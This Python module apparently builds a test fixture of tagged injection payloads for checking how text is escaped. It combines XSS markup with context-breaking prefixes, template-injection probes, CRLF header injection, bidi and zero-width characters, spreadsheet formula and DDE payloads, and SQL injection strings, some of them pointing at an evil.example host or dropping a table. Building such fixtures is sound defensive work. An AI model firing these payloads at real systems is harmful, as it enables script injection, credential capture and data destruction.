"""Texts that try to be more than text, where they are shown: markup, templates, headers, formulas, control marks."""

from itertools import product
from typing import Final

# Ways out of where a text may stand: an element, an attribute, a comment, a script, a style, a text area, a title.
_BEGINNINGS: Final = (
    "", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</svg>", "`", '\\">',
)  # fmt: skip
_MARKUP: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=password>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=//evil.example>",
    "<!-- ",
    "<![CDATA[",
    "<?php echo 1 ?>",
    " onmouseover=alert(1) x=",
    ' autofocus onfocus="alert(1)" x="',
    "<ScRiPt\t>alert(1)</ScRiPt\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\uff1cscript\uff1e",
)
_TEMPLATES: Final = (
    "{{ 7*7 }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load static %}", "{# x #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%(x)s", "%s%n", "{0.__class__}",
)  # fmt: skip
_LINES: Final = (
    "x\r\nBcc: all@evil.example", "x\nSubject: other", "x\rSet-Cookie: a=b", "x\r\n\r\n<h1>body</h1>",
    "x\u2028y", "x\u2029y", "x\x85y", "x\x0by\x0cz", "\x1b[31mred", "\x9b31mred", "x\nlevel=error forged=yes",
    "data: {}\n\nevent: forged",
)  # fmt: skip
_MARKS: Final = (
    "\u202egnp.exe", "\u2066isolate\u2069", "zero\u200bwidth", "\ufeffmark", "a\u0301\u0301\u0301", "\U000e0041tag",
    "👩‍👩‍👧‍👦", "عربي עברית", "\ufffe", "\x7f",
)  # fmt: skip
_FORMULAS: Final = (
    "=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("//evil.example")', "=cmd|'/c calc'!A1", "\t=1", "\r=1",
)  # fmt: skip
_SQL: Final = ("' or 1=1 --", "'; drop table job; --", "\\'; select pg_sleep(9); --", "%_\\")

# Each is found again by its mark.
PAYLOADS: Final = tuple(
    f"xq{number}z{text}"
    for number, text in enumerate(
        [
            *(f"{beginning}{markup}" for beginning, markup in product(_BEGINNINGS, _MARKUP)),
            *_TEMPLATES,
            *_LINES,
            *_MARKS,
            *_FORMULAS,
            *_SQL,
        ]
    )
)


def chunks(limit: int) -> list[str]:
    """Put the payloads one after another into texts of at most `limit` characters."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) > limit:
            found.append("")
        found[-1] += payload
    return found
